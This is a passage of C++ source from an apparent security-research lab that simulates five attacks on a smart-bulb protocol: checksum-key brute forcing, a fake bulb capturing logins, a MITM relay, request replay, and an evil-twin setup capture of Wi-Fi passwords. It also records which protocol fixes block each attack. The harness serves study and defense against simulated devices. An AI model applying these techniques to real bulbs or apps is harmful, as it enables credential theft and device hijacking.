#include "adversary.hpp"

#include <algorithm>
#include <chrono>
#include <thread>

#include "crc32.hpp"
#include "error.hpp"

namespace tapolab {

namespace fix {
constexpr const char* kSignedKeyTransmission = "fix1-signed-key-transmission";
constexpr const char* kRotatingDiscoveryKey = "fix2-rotating-discovery-key";
constexpr const char* kFreshness = "fix4-freshness";
}  // namespace fix

// --- report -------------------------------------------------------------------------

Json ScenarioReport::to_json() const {
  Json j;
  j["scenario_id"] = scenario_id;
  j["profile"] = std::string(to_string(profile));
  j["success"] = success;
  j["failure_stage"] = failure_stage.empty() ? Json(nullptr) : Json(failure_stage);
  j["blocking_fix"] = blocking_fix.empty() ? Json(nullptr) : Json(blocking_fix);
  j["exfiltrated"] = Json::object();
  for (const auto& [k, v] : exfiltrated) j["exfiltrated"][k] = v;
  j["observations"] = observations;
  j["trace"] = trace;
  j["duration_ms"] = duration_ms;
  return j;
}

ScenarioReport ScenarioReport::from_json(const Json& j) {
  try {
    ScenarioReport r;
    r.scenario_id = j.at("scenario_id").get<int>();
    r.profile = profile_from_string(j.at("profile").get<std::string>());
    r.success = j.at("success").get<bool>();
    if (j.contains("failure_stage") && j["failure_stage"].is_string()) r.failure_stage = j["failure_stage"];
    if (j.contains("blocking_fix") && j["blocking_fix"].is_string()) r.blocking_fix = j["blocking_fix"];
    for (const auto& [k, v] : j.at("exfiltrated").items()) r.exfiltrated[k] = v.get<std::string>();
    r.observations = j.value("observations", Json::object());
    r.trace = j.value("trace", std::vector<std::uint64_t>{});
    r.duration_ms = j.value("duration_ms", std::int64_t{0});
    return r;
  } catch (const nlohmann::json::exception& e) {
    throw Error(ErrorKind::format, std::string("scenario report: ") + e.what());
  }
}

// --- brute force ---------------------------------------------------------------------
//
// For equal-length inputs CRC-32 is affine, so the checksum under secret k is
// crc(payload with zero field) ^ C(k), where C(k) is the XOR of one table
// entry per secret byte. Each candidate then costs four lookups.

BruteforceResult bruteforce_checksum(ByteView captured, int keyspace_bits, unsigned threads) {
  if (keyspace_bits < 1 || keyspace_bits > 32) throw Error(ErrorKind::argument, "keyspace_bits must be 1..32");
  check_discovery_framing(captured);

  Bytes work(captured.begin(), captured.end());
  const std::uint32_t target = ChecksumSecret{{work[12], work[13], work[14], work[15]}}.as_u32();
  std::fill_n(work.begin() + kChecksumOffset, 4, std::uint8_t{0});
  const std::uint32_t base = crc32(work);

  const std::size_t tail = work.size() - kChecksumOffset;  // secret + data
  Bytes probe(tail, 0);
  const std::uint32_t zero = crc32(probe);
  std::array<std::array<std::uint32_t, 256>, 4> table{};
  for (std::size_t pos = 0; pos < 4; ++pos) {
    for (unsigned b = 0; b < 256; ++b) {
      probe[pos] = static_cast<std::uint8_t>(b);
      table[pos][b] = crc32(probe) ^ zero;
    }
    probe[pos] = 0;
  }

  const std::uint64_t space = std::uint64_t{1} << keyspace_bits;
  if (threads == 0) threads = std::max(1u, std::thread::hardware_concurrency());
  // Split on multiples of 256 so the inner loop walks the lowest byte.
  const std::uint64_t blocks = std::max<std::uint64_t>(1, space / 256);
  threads = static_cast<unsigned>(std::min<std::uint64_t>(threads, blocks));

  std::vector<std::vector<std::uint32_t>> found(threads);
  std::vector<std::thread> pool;
  for (unsigned t = 0; t < threads; ++t) {
    pool.emplace_back([&, t] {
      const std::uint64_t lo = blocks * t / threads, hi = blocks * (t + 1) / threads;
      const unsigned low_count = static_cast<unsigned>(std::min<std::uint64_t>(256, space));
      for (std::uint64_t blk = lo; blk < hi; ++blk) {
        const std::uint32_t high = static_cast<std::uint32_t>(blk << 8);
        const std::uint32_t partial =
            base ^ table[0][high >> 24] ^ table[1][(high >> 16) & 0xff] ^ table[2][(high >> 8) & 0xff];
        for (unsigned b = 0; b < low_count; ++b) {
          if ((partial ^ table[3][b]) == target) found[t].push_back(high | b);
        }
      }
    });
  }
  for (auto& th : pool) th.join();

  BruteforceResult r;
  r.tested = space;
  for (const auto& v : found) {
    for (auto k : v) r.matches.push_back(ChecksumSecret::from_u32(k));
  }
  std::sort(r.matches.begin(), r.matches.end(),
            [](const ChecksumSecret& a, const ChecksumSecret& b) { return a.as_u32() < b.as_u32(); });
  return r;
}

namespace {

// --- shared plumbing -----------------------------------------------------------------

class Run {
 public:
  Run(Lab& lab, int id) : lab_(lab), start_seq_(lab.net().capture().size()), start_ms_(lab.clock().now_ms()) {
    report.scenario_id = id;
    report.profile = lab.profile();
  }

  void fail(std::string stage, std::string fix_id, std::string detail) {
    report.success = false;
    report.failure_stage = std::move(stage);
    report.blocking_fix = std::move(fix_id);
    report.observations["failure_detail"] = std::move(detail);
  }

  ScenarioReport finish() {
    const auto& cap = lab_.net().capture();
    for (std::size_t i = start_seq_; i < cap.size(); ++i) report.trace.push_back(cap[i].seq);
    report.duration_ms = lab_.clock().now_ms() - start_ms_;
    if (report.success) {
      report.failure_stage.clear();
      report.blocking_fix.clear();
    }
    return std::move(report);
  }

  ScenarioReport report;

 private:
  Lab& lab_;
  std::size_t start_seq_;
  std::int64_t start_ms_;
};

/// Maps the exceptions a victim app raises onto failure stages.
void classify_failure(Run& run, const Error& e) {
  switch (e.kind()) {
    case ErrorKind::peer_authentication:
      run.fail("peer-authentication", fix::kSignedKeyTransmission, e.what());
      break;
    case ErrorKind::freshness:
      run.fail("freshness", fix::kFreshness, e.what());
      break;
    default:
      run.fail(std::string(to_string(e.kind())), "", e.what());
  }
}

Json lamp_diff(const LampState& before, const LampState& after) {
  Json a = before.to_json(), b = after.to_json(), d = Json::object();
  for (auto& [k, v] : b.items()) {
    if (a[k] != v) d[k] = v;
  }
  return d;
}

std::string random_hex(Rng& rng, std::size_t n) { return to_hex(rng.bytes(n)); }

// --- fake bulb (scenario 2) ---------------------------------------------------------

class FakeBulb {
 public:
  FakeBulb(Rng rng, std::shared_ptr<const Clock> clock, std::optional<RsaKeyPair> signer)
      : rng_(std::move(rng)), clock_(std::move(clock)), signer_(std::move(signer)), issuer_(rng_.fork("cookies")) {}

  std::string handle(std::string_view raw) {
    RpcRequest req;
    try {
      req = parse_http_request(raw);
    } catch (const Error&) {
      return build_http_response(RpcResponse{error_code::format, std::nullopt});
    }
    const auto now = clock_->now_s();
    if (req.method == "handshake") {
      auto pub = RsaPublicKey::from_pem(req.params.value("key", std::string{}));
      material_ = generate_session_material(rng_, now);
      std::string blob = wrap_key(*material_, pub, rng_);
      Json result{{"key", blob}};
      // No device key to sign with; the attacker's own key is the best it has.
      if (signer_) result["signature"] = base64_encode(sign_key_transmission(blob, *signer_));
      return build_http_response(RpcResponse{error_code::ok, result}, issuer_.issue_cookie());
    }
    if (req.method != kPassthroughMethod || !material_) {
      return build_http_response(RpcResponse{error_code::unknown_method, std::nullopt});
    }
    RpcRequest inner = unwrap_passthrough_request(req, *material_, now);
    inner_log.push_back(inner.to_json());
    Json result = Json::object();
    if (inner.method == "login_device") {
      username_b64 = inner.params.value("username", std::string{});
      password_b64 = inner.params.value("password", std::string{});
      result = Json{{"token", random_hex(rng_, 16)}};
    }
    IvMode mode = req.params.contains("iv") ? IvMode::dynamic_iv : IvMode::static_iv;
    auto outer = wrap_passthrough_response(RpcResponse{error_code::ok, result}, *material_, mode, rng_, now);
    return build_http_response(outer);
  }

  std::optional<std::string> username_b64, password_b64;
  std::vector<Json> inner_log;

 private:
  Rng rng_;
  std::shared_ptr<const Clock> clock_;
  std::optional<RsaKeyPair> signer_;
  CredentialIssuer issuer_;
  std::optional<SessionKeyMaterial> material_;
};

// --- MITM relay (scenarios 3 and 5) ----------------------------------------------------

class MitmRelay {
 public:
  MitmRelay(NetLab& net, EndpointId upstream, Rng rng, int rsa_bits)
      : net_(net), upstream_(std::move(upstream)), rng_(std::move(rng)), own_(RsaKeyPair::generate(rng_, rsa_bits)) {}

  /// Inject-tap responder: answers in place of the bulb.
  std::optional<Bytes> handle(const Frame& f) {
    std::string raw = to_string(f.payload);
    RpcRequest req;
    try {
      req = parse_http_request(raw);
    } catch (const Error&) {
      return forward(f, raw);
    }
    try {
      if (req.method == "handshake") return intercept_handshake(f, req);
      if (req.method == kPassthroughMethod && material) return relay_passthrough(f, req);
    } catch (const Error& e) {
      errors.push_back(e.what());
    }
    return forward(f, raw);
  }

  std::optional<SessionKeyMaterial> material;
  std::vector<Json> inner_log;       // decrypted app requests, before any modification
  std::vector<Json> inner_responses;  // decrypted bulb responses
  std::function<bool(RpcRequest&)> modify;
  std::vector<std::string> errors;
  int modifications = 0;
  bool signature_forwarded = false;

 private:
  std::optional<Bytes> forward(const Frame& f, const std::string& raw) {
    return net_.exchange(Frame{upstream_.network, upstream_.address, net_.ephemeral_port(), f.dst, f.dst_port,
                               Transport::tcp, to_bytes(raw), 0});
  }

  std::optional<Bytes> intercept_handshake(const Frame& f, const RpcRequest& req) {
    auto app_key = RsaPublicKey::from_pem(req.params.value("key", std::string{}));
    RpcRequest own = req;
    own.params["key"] = own_.public_key().pem();
    auto reply = forward(f, build_http_request(own, f.dst, f.dst_port));
    if (!reply) return std::nullopt;
    HttpResponse resp = parse_http_response(to_string(*reply));
    if (resp.response.error_code != error_code::ok || !resp.response.result) return reply;
    Json result = *resp.response.result;
    material = unwrap_key(result["key"].get<std::string>(), own_, net_.clock().now_s());
    result["key"] = wrap_key(*material, app_key, rng_);
    // The bulb's signature covers the blob it sent us, not the re-wrapped one.
    signature_forwarded = result.contains("signature");
    return to_bytes(build_http_response(RpcResponse{error_code::ok, result}, resp.set_cookie));
  }

  std::optional<Bytes> relay_passthrough(const Frame& f, const RpcRequest& req) {
    const auto now = net_.clock().now_s();
    RpcRequest inner = unwrap_passthrough_request(req, *material, now);
    inner_log.push_back(inner.to_json());
    std::string raw = build_http_request(req, f.dst, f.dst_port);
    if (modify && modify(inner)) {
      ++modifications;
      IvMode mode = req.params.contains("iv") ? IvMode::dynamic_iv : IvMode::static_iv;
      RpcRequest outer = wrap_passthrough(inner, *material, mode, rng_, now);
      outer.cookie = req.cookie;
      raw = build_http_request(outer, f.dst, f.dst_port);
    } else {
      raw = to_string(f.payload);
    }
    auto reply = forward(f, raw);
    if (reply) {
      try {
        HttpResponse resp = parse_http_response(to_string(*reply));
        if (resp.response.error_code == error_code::ok) {
          inner_responses.push_back(unwrap_passthrough_response(resp.response, *material, now).to_json());
        }
      } catch (const Error&) {
      }
    }
    return reply;
  }

  NetLab& net_;
  EndpointId upstream_;
  Rng rng_;
  RsaKeyPair own_;
};

std::string find_app_network(Lab& lab, const ScenarioRoles& roles) { return lab.network_of(roles.app); }

// --- scenario 1: checksum brute force and forgery --------------------------------------

ScenarioReport scenario1(Lab& lab, const ScenarioRoles& roles, const ScenarioOptions& opts) {
  Run run(lab, 1);
  NetLab& net = lab.net();
  App& app = lab.app(roles.app);
  const std::string network = find_app_network(lab, roles);
  const EndpointId eve = lab.attacker_endpoint(roles.attacker, network);
  const int bits = opts.full_keyspace ? 32 : opts.keyspace_bits;
  run.report.observations["keyspace_bits"] = bits;

  // Phase 1: sniff one broadcast discovery request.
  std::vector<Bytes> sniffed;
  net.bind_udp(eve, kDiscoveryPort, [&](const Frame& f) {
    if (f.broadcast()) sniffed.push_back(f.payload);
  });
  app.discover(DiscoveryScope::owned);
  net.unbind_udp(eve, kDiscoveryPort);
  if (sniffed.empty()) {
    run.fail("capture", "", "no discovery broadcast observed");
    return run.finish();
  }
  const Bytes captured = sniffed.front();
  run.report.observations["captured_payload_b64"] = base64_encode(captured);
  run.report.observations["captured_version"] = discovery_version(captured);

  if (discovery_version(captured) != 1) {
    // Tagged payload: SHA-224 under a 256-bit per-account key. Worst case the
    // attacker still holds the legacy secret; configured bulbs ignore it.
    const std::uint16_t port = net.ephemeral_port();
    std::size_t answers = 0;
    net.bind_udp(eve, port, [&](const Frame&) { ++answers; });
    net.send(Frame{eve.network, eve.address, port, std::string(kBroadcastAddress), kDiscoveryPort, Transport::udp,
                   encode_discovery(OwnerScanRequest{app.owner_id()}, Rng(lab.options().seed).array<4>(),
                                    lab.options().secret),
                   0});
    net.unbind_udp(eve, port);
    run.report.observations["legacy_request_answers"] = answers;
    run.fail("discovery-key", fix::kRotatingDiscoveryKey,
             "captured discovery carries a 28-byte SHA-224 tag under a 256-bit rotating key; no checksum to brute force");
    return run.finish();
  }

  // Phase 2: offline brute force.
  auto t0 = std::chrono::steady_clock::now();
  BruteforceResult bf = bruteforce_checksum(captured, bits, opts.threads);
  auto wall = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - t0).count();
  run.report.observations["bruteforce_wall_ms"] = wall;
  run.report.observations["candidates_tested"] = bf.tested;
  run.report.observations["matching_keys"] = bf.matches.size();
  if (bf.matches.size() != 1) {
    run.fail("bruteforce", "",
             bf.matches.empty() ? "secret is outside the scanned keyspace" : "more than one key verifies");
    return run.finish();
  }
  const ChecksumSecret found = bf.matches.front();
  run.report.exfiltrated["checksum_secret_hex"] = found.hex();
  const auto sniffed_request = decode_discovery(captured, found);
  if (auto scan = std::get_if<OwnerScanRequest>(&sniffed_request.data)) {
    run.report.exfiltrated["victim_owner_id"] = scan->owner_id;
  }

  // Phase 3a: a forged request that a genuine bulb answers.
  Rng rng = lab.rng("attacker/" + roles.attacker + "/s1");
  const Nonce nonce = rng.array<4>();
  std::vector<DiscoveryResponseBody> answered;
  const std::uint16_t port = net.ephemeral_port();
  net.bind_udp(eve, port, [&](const Frame& f) {
    try {
      auto d = decode_discovery(f.payload, found);
      if (d.nonce != nonce) return;
      if (auto* b = std::get_if<DiscoveryResponseBody>(&d.data)) answered.push_back(*b);
    } catch (const Error&) {
    }
  });
  net.send(Frame{eve.network, eve.address, port, std::string(kBroadcastAddress), kDiscoveryPort, Transport::udp,
                 encode_discovery(EmptyRequest{}, nonce, found), 0});
  net.unbind_udp(eve, port);
  run.report.observations["forged_request_answers"] = answered.size();
  if (!answered.empty()) {
    run.report.observations["leaked_device_id"] = answered.front().device_id;
    run.report.observations["leaked_device_ip"] = answered.front().ip;
  }

  // Phase 3b: a forged response that the genuine app accepts.
  DiscoveryResponseBody fake;
  fake.device_id = random_hex(rng, 16);
  fake.owner = app.owner_id();
  fake.ip = eve.address;
  fake.mac = "3C-00-00-00-00-01";
  fake.factory_default = false;
  net.bind_udp(eve, kDiscoveryPort, [&](const Frame& f) {
    try {
      auto d = decode_discovery(f.payload, found);
      if (std::holds_alternative<DiscoveryResponseBody>(d.data)) return;
      net.send(Frame{eve.network, eve.address, kDiscoveryPort, f.src, f.src_port, Transport::udp,
                     encode_discovery(fake, d.nonce, found), 0});
    } catch (const Error&) {
    }
  });
  auto seen = app.discover(DiscoveryScope::owned);
  net.unbind_udp(eve, kDiscoveryPort);
  bool accepted = std::any_of(seen.begin(), seen.end(), [&](const DiscoveredDevice& d) {
    return d.body.device_id == fake.device_id && d.body.ip == eve.address;
  });
  run.report.observations["forged_response_accepted"] = accepted;

  run.report.success = !answered.empty() && accepted;
  if (!run.report.success) run.fail("forgery", "", "forged discovery traffic was not accepted");
  return run.finish();
}

// --- scenario 2: fake bulb steals credentials -------------------------------------------

ScenarioReport scenario2(Lab& lab, const ScenarioRoles& roles, const ScenarioOptions&) {
  Run run(lab, 2);
  NetLab& net = lab.net();
  App& app = lab.app(roles.app);
  const std::string network = find_app_network(lab, roles);
  const EndpointId eve = lab.attacker_endpoint(roles.attacker, network);
  const bool hardened = lab.profile() == Profile::hardened;

  // Prerequisites: the victim's owner id and the discovery port.
  const std::string victim_owner = app.owner_id();
  std::string device_id;
  if (lab.has_actor(roles.bulb)) device_id = lab.bulb(roles.bulb).config().device_id;
  Rng rng = lab.rng("attacker/" + roles.attacker + "/s2");
  if (device_id.empty()) device_id = random_hex(rng, 16);

  std::optional<DiscoveryKey> leaked;
  if (hardened) {
    // Worst case for the fix: the account's current discovery key has leaked.
    leaked = lab.cloud()->current_key(victim_owner).key;
    run.report.observations["assumed_leaked_discovery_key"] = true;
  }

  DiscoveryResponseBody forged;
  forged.device_id = device_id;
  forged.owner = victim_owner;
  forged.ip = eve.address;
  forged.mac = "3C-00-00-00-00-02";
  forged.factory_default = false;
  net.bind_udp(eve, kDiscoveryPort, [&](const Frame& f) {
    if (!f.broadcast() || f.payload.size() < kDiscoveryHeaderSize) return;
    const Nonce n = nonce_of(f.payload);
    Bytes reply = leaked ? encode_discovery_v2(forged, n, *leaked) : encode_discovery(forged, n, lab.options().secret);
    net.send(Frame{eve.network, eve.address, kDiscoveryPort, f.src, f.src_port, Transport::udp, reply, 0});
  });

  std::optional<RsaKeyPair> signer;
  if (hardened) {
    Rng srng = rng.fork("signer");
    signer = RsaKeyPair::generate(srng, lab.options().rsa_bits);
  }
  FakeBulb fake(rng.fork("fake-bulb"), lab.net().clock_ptr(), std::move(signer));
  net.bind_tcp(eve, kHttpPort, [&fake](const Frame& f) { return to_bytes(fake.handle(to_string(f.payload))); });

  try {
    auto found = app.discover(DiscoveryScope::owned);
    auto target = std::find_if(found.begin(), found.end(),
                               [&](const DiscoveredDevice& d) { return d.body.ip == eve.address; });
    run.report.observations["app_accepted_forged_discovery"] = target != found.end();
    if (target == found.end()) {
      run.fail("discovery-key", fix::kRotatingDiscoveryKey, "app ignored the forged discovery response");
    } else {
      app.establish_session(*target);
      run.report.observations["app_session_with_attacker"] = true;
    }
  } catch (const Error& e) {
    classify_failure(run, e);
  }
  net.unbind_udp(eve, kDiscoveryPort);

  if (fake.username_b64 && fake.password_b64) {
    run.report.exfiltrated["username_sha1_b64"] = *fake.username_b64;
    try {
      run.report.exfiltrated["tapo_password"] = to_string(base64_decode(*fake.password_b64));
    } catch (const Error&) {
    }
  }
  run.report.success = run.report.failure_stage.empty() && run.report.exfiltrated.contains("tapo_password") &&
                       run.report.exfiltrated.contains("username_sha1_b64");
  if (!run.report.success && run.report.failure_stage.empty()) run.fail("exfiltration", "", "no login captured");
  return run.finish();
}

// --- scenario 3: MITM on a configured bulb ----------------------------------------------

ScenarioReport scenario3(Lab& lab, const ScenarioRoles& roles, const ScenarioOptions&) {
  Run run(lab, 3);
  NetLab& net = lab.net();
  App& app = lab.app(roles.app);
  Bulb& bulb = lab.bulb(roles.bulb);
  const std::string network = lab.network_of(roles.bulb);
  const EndpointId eve = lab.attacker_endpoint(roles.attacker, network);
  const std::string app_addr = lab.address_of(roles.app, network);
  const std::string bulb_addr = bulb.config().ip;
  const std::uint16_t http_port = bulb.config().http_port;

  MitmRelay relay(net, eve, lab.rng("attacker/" + roles.attacker + "/s3"), lab.options().rsa_bits);
  static constexpr int kIntended = 80, kInjected = 5;
  relay.modify = [](RpcRequest& inner) {
    if (inner.method != "set_device_info" || inner.params.value("brightness", 0) != kIntended) return false;
    inner.params["brightness"] = kInjected;
    return true;
  };
  TapRule rule;
  rule.owner = roles.attacker;
  rule.action = TapAction::inject;
  rule.match = [=](const Frame& f) {
    return f.transport == Transport::tcp && f.src == app_addr && f.dst == bulb_addr && f.dst_port == http_port;
  };
  rule.responder = [&relay](const Frame& f) { return relay.handle(f); };
  const std::size_t tap = net.install_tap(network, std::move(rule));

  const std::size_t sent_before = app.sent_inner().size();
  try {
    auto found = app.discover(DiscoveryScope::owned);
    if (found.empty()) throw Error(ErrorKind::network, "victim app found no bulb");
    AppSession s = app.establish_session(found.front());
    app.control(s, Json{{"brightness", kIntended}});
    auto info = app.get_device_info(s);
    if (info.result) run.report.observations["app_reported_brightness"] = (*info.result)["brightness"];
  } catch (const Error& e) {
    classify_failure(run, e);
  }
  net.remove_tap(tap);

  std::vector<Json> app_sent(app.sent_inner().begin() + static_cast<std::ptrdiff_t>(sent_before),
                             app.sent_inner().end());
  const bool streams_equal = !relay.inner_log.empty() && relay.inner_log == app_sent;
  const int observed = bulb.lamp().brightness;
  run.report.observations["relay_signature_forwarded"] = relay.signature_forwarded;
  run.report.observations["decrypted_requests"] = relay.inner_log;
  run.report.observations["decrypted_stream_matches_app"] = streams_equal;
  run.report.observations["intended_brightness"] = kIntended;
  run.report.observations["bulb_brightness"] = observed;
  run.report.observations["modifications"] = relay.modifications;
  // The relay's bulb-side key only counts once the victim's traffic flows through it.
  if (relay.material && !relay.inner_log.empty()) {
    run.report.exfiltrated["session_key_hex"] = to_hex(relay.material->aes_key);
    run.report.exfiltrated["session_iv_hex"] = to_hex(relay.material->iv);
  }
  run.report.success = run.report.failure_stage.empty() && relay.material && streams_equal &&
                       relay.modifications == 1 && observed == kInjected;
  if (!run.report.success && run.report.failure_stage.empty()) run.fail("relay", "", "relay did not take hold");
  return run.finish();
}

// --- scenario 4: replay -------------------------------------------------------------------

ScenarioReport scenario4(Lab& lab, const ScenarioRoles& roles, const ScenarioOptions&) {
  Run run(lab, 4);
  NetLab& net = lab.net();
  App& app = lab.app(roles.app);
  Bulb& bulb = lab.bulb(roles.bulb);
  const std::string network = lab.network_of(roles.bulb);
  const EndpointId eve = lab.attacker_endpoint(roles.attacker, network);
  const std::string app_addr = lab.address_of(roles.app, network);
  const std::string bulb_addr = bulb.config().ip;
  const std::uint16_t http_port = bulb.config().http_port;

  // Phase 1: sniff. The attacker never learns the session key.
  std::vector<Bytes> captured;
  TapRule rule;
  rule.owner = roles.attacker;
  rule.action = TapAction::observe;
  rule.match = [=](const Frame& f) {
    return f.transport == Transport::tcp && f.src == app_addr && f.dst == bulb_addr && f.dst_port == http_port;
  };
  rule.observer = [&captured](const Frame& f) { captured.push_back(f.payload); };
  const std::size_t tap = net.install_tap(network, std::move(rule));

  LampState victim_before, victim_after;
  try {
    auto found = app.discover(DiscoveryScope::owned);
    if (found.empty()) throw Error(ErrorKind::network, "victim app found no bulb");
    AppSession s = app.establish_session(found.front());
    victim_before = bulb.lamp();
    app.control(s, Json{{"device_on", false}});
    victim_after = bulb.lamp();
    app.get_device_info(s);
    app.control(s, Json{{"device_on", true}});
    app.get_device_info(s);
  } catch (const Error& e) {
    net.remove_tap(tap);
    classify_failure(run, e);
    return run.finish();
  }
  net.remove_tap(tap);
  const Json original_effect = lamp_diff(victim_before, victim_after);
  run.report.observations["victim_off_effect"] = original_effect;

  // The first passthrough after a handshake is always the login. Replaying it
  // would rotate the token and void every later capture, so leave it out.
  std::vector<std::size_t> passthrough;
  bool login_next = false;
  for (std::size_t i = 0; i < captured.size(); ++i) {
    try {
      const std::string method = parse_http_request(to_string(captured[i])).method;
      if (method == kPassthroughMethod) {
        if (!login_next) passthrough.push_back(i);
        login_next = false;
      } else {
        login_next = true;
      }
    } catch (const Error&) {
    }
  }
  run.report.observations["captured_requests"] = captured.size();

  auto replay = [&](std::size_t idx) {
    auto reply = net.exchange(Frame{eve.network, eve.address, net.ephemeral_port(), bulb_addr, http_port,
                                    Transport::tcp, captured[idx], 0});
    if (!reply) return error_code::format;
    try {
      return parse_http_response(to_string(*reply)).response.error_code;
    } catch (const Error&) {
      return error_code::format;
    }
  };

  // Phase 2: classify by replaying and watching the bulb. A set message that
  // happened to match the current state shows no effect, hence two passes.
  std::map<std::size_t, Json> effects;
  int accepted = 0;
  for (int pass = 0; pass < 2; ++pass) {
    for (auto idx : passthrough) {
      if (effects.contains(idx)) continue;
      LampState before = bulb.lamp();
      int code = replay(idx);
      if (code != error_code::ok) {
        run.report.observations["first_rejection_code"] = code;
        if (code == error_code::freshness) {
          run.fail("freshness", fix::kFreshness, "replayed request rejected as stale or duplicate");
        } else {
          run.fail("replay", "", "replayed request rejected with " + std::to_string(code));
        }
        return run.finish();
      }
      ++accepted;
      Json d = lamp_diff(before, bulb.lamp());
      if (!d.empty()) effects[idx] = d;
    }
  }
  Json classes = Json::array();
  for (auto idx : passthrough) classes.push_back(effects.contains(idx) ? "set" : "get");
  run.report.observations["classification"] = classes;

  // Phase 3: drive the bulb with the captured "off".
  std::optional<std::size_t> off;
  for (const auto& [idx, d] : effects) {
    if (d.contains("device_on") && d["device_on"] == false) off = idx;
  }
  if (!off) {
    run.fail("classification", "", "no captured message turns the bulb off");
    return run.finish();
  }
  if (!bulb.lamp().on) {
    // Restore with the captured "on" first, as the attacker would.
    for (const auto& [idx, d] : effects) {
      if (d.contains("device_on") && d["device_on"] == true) {
        replay(idx);
        ++accepted;
      }
    }
  }
  LampState before = bulb.lamp();
  int code = replay(*off);
  Json effect = lamp_diff(before, bulb.lamp());
  if (code == error_code::ok) ++accepted;
  run.report.observations["replay_effect"] = effect;
  run.report.observations["replay_matches_original"] = effect == original_effect;
  run.report.observations["accepted_replays"] = accepted;
  run.report.exfiltrated["replayed_request_b64"] = base64_encode(captured[*off]);

  // Phase 4: the same bytes after the session key has expired.
  lab.clock().advance_s(kSessionTtlSeconds + 1);
  LampState pre_expiry = bulb.lamp();
  int late = replay(*off);
  run.report.observations["post_expiry_error_code"] = late;
  run.report.observations["post_expiry_state_unchanged"] = bulb.lamp() == pre_expiry;

  run.report.success = code == error_code::ok && effect == original_effect && !effect.empty();
  if (!run.report.success) run.fail("replay", "", "replay did not reproduce the original effect");
  return run.finish();
}

// --- scenario 5: MITM during setup -------------------------------------------------------

ScenarioReport scenario5(Lab& lab, const ScenarioRoles& roles, const ScenarioOptions&) {
  Run run(lab, 5);
  NetLab& net = lab.net();
  App& app = lab.app(roles.app);
  Bulb& bulb = lab.bulb(roles.bulb);
  const std::string setup_net = lab.network_of(roles.bulb);
  const EndpointId eve_x = lab.attacker_endpoint(roles.attacker, setup_net);

  // The attacker's own AP: its first endpoint away from the bulb's network.
  std::optional<EndpointId> eve_ap;
  for (const auto& ep : lab.attacker_endpoints(roles.attacker)) {
    if (ep.network != setup_net) {
      eve_ap = ep;
      break;
    }
  }
  if (!eve_ap) {
    run.fail("topology", "", "attacker has no access point of its own");
    return run.finish();
  }
  const std::uint16_t http_port = bulb.config().http_port;

  // Deauthenticate the phone from the bulb's AP; the user retries and lands
  // on the attacker's AP.
  lab.disconnect(roles.app, setup_net);
  lab.attach(roles.app, eve_ap->network);
  run.report.observations["app_network"] = eve_ap->network;

  auto bridge = net.bridge(roles.attacker, eve_x, *eve_ap, kDiscoveryPort,
                           [](const Frame& f) { return f.transport == Transport::udp && f.broadcast(); });

  MitmRelay relay(net, eve_x, lab.rng("attacker/" + roles.attacker + "/s5"), lab.options().rsa_bits);
  TapRule rule;
  rule.owner = roles.attacker;
  rule.action = TapAction::inject;
  rule.match = [=](const Frame& f) { return f.transport == Transport::tcp && f.dst_port == http_port; };
  rule.responder = [&relay](const Frame& f) { return relay.handle(f); };
  const std::size_t tap = net.install_tap(eve_ap->network, std::move(rule));

  try {
    auto found = app.discover(DiscoveryScope::unconfigured);
    if (found.empty()) throw Error(ErrorKind::network, "victim app found no bulb in setup mode");
    AppSession s = app.establish_session(found.front(), true);
    app.setup_device(s);
    run.report.observations["app_setup_succeeded"] = true;
  } catch (const Error& e) {
    classify_failure(run, e);
  }
  net.remove_tap(tap);
  bridge->teardown();
  run.report.observations["bridged_datagrams"] = bridge->relayed();

  for (const auto& inner : relay.inner_log) {
    if (inner.value("method", std::string{}) != "set_qs_info") continue;
    const Json& p = inner["params"];
    auto grab = [&](const char* key, const Json& obj, const char* field) {
      try {
        if (obj.contains(field)) run.report.exfiltrated[key] = to_string(base64_decode(obj[field].get<std::string>()));
      } catch (const Error&) {
      }
    };
    if (p.contains("wireless")) {
      grab("wifi_ssid", p["wireless"], "ssid");
      grab("wifi_password", p["wireless"], "password");
    }
    if (p.contains("account")) {
      grab("tapo_email", p["account"], "username");
      grab("tapo_password", p["account"], "password");
    }
  }
  if (relay.material && !relay.inner_log.empty()) run.report.exfiltrated["session_key_hex"] = to_hex(relay.material->aes_key);
  const bool configured = bulb.mode() == DeviceMode::configured;
  run.report.observations["bulb_mode"] = std::string(to_string(bulb.mode()));
  run.report.observations["bulb_network"] = lab.network_of(roles.bulb);
  run.report.success = run.report.failure_stage.empty() && configured &&
                       run.report.exfiltrated.contains("wifi_ssid") && run.report.exfiltrated.contains("wifi_password");
  if (!run.report.success && run.report.failure_stage.empty()) run.fail("exfiltration", "", "set_qs_info not captured");
  return run.finish();
}

}  // namespace

ScenarioReport run_scenario(Lab& lab, int id, const ScenarioRoles& roles, const ScenarioOptions& opts) {
  for (const auto* name : {&roles.attacker, &roles.app}) {
    if (!lab.has_actor(*name)) throw Error(ErrorKind::argument, "scenario needs actor '" + *name + "'");
  }
  switch (id) {
    case 1: return scenario1(lab, roles, opts);
    case 2: return scenario2(lab, roles, opts);
    case 3: return scenario3(lab, roles, opts);
    case 4: return scenario4(lab, roles, opts);
    case 5: return scenario5(lab, roles, opts);
  }
  throw Error(ErrorKind::argument, "scenario id must be 1..5");
}

char setup_for_scenario(int id) {
  switch (id) {
    case 2: return 'A';
    case 5: return 'C';
    case 1:
    case 3:
    case 4: return 'B';
  }
  throw Error(ErrorKind::argument, "scenario id must be 1..5");
}

std::unique_ptr<Lab> build_setup(char setup, const LabOptions& opts) {
  auto lab = std::make_unique<Lab>(opts);
  const AppConfig victim = default_app_config();
  switch (setup) {
    case 'A':
      lab->add_network("home");
      lab->add_network("public", true);
      lab->add_app("phone", "public", "10.0.0.15", victim);
      lab->add_bulb("bulb", "home", "192.168.1.20", "phone");
      lab->add_attacker("eve", "public", "10.0.0.66");
      break;
    case 'B':
      lab->add_network("home");
      lab->add_app("phone", "home", "192.168.1.10", victim);
      lab->add_bulb("bulb", "home", "192.168.1.20", "phone");
      lab->add_attacker("eve", "home", "192.168.1.66");
      lab->grant_attacker("home", "eve");
      break;
    case 'C':
      lab->add_network("bulb_ap", true, "Tapo_Bulb_1A2B");
      lab->add_network("evil_ap", true, "Tapo_Bulb_1A2B_");
      lab->add_network("home", false, victim.wifi_ssid);
      lab->add_bulb("bulb", "bulb_ap", "192.168.0.1");
      lab->add_app("phone", "bulb_ap", "192.168.0.100", victim);
      lab->add_attacker("eve", "bulb_ap", "192.168.0.66");
      lab->add_attacker("eve", "evil_ap", "192.168.0.254");
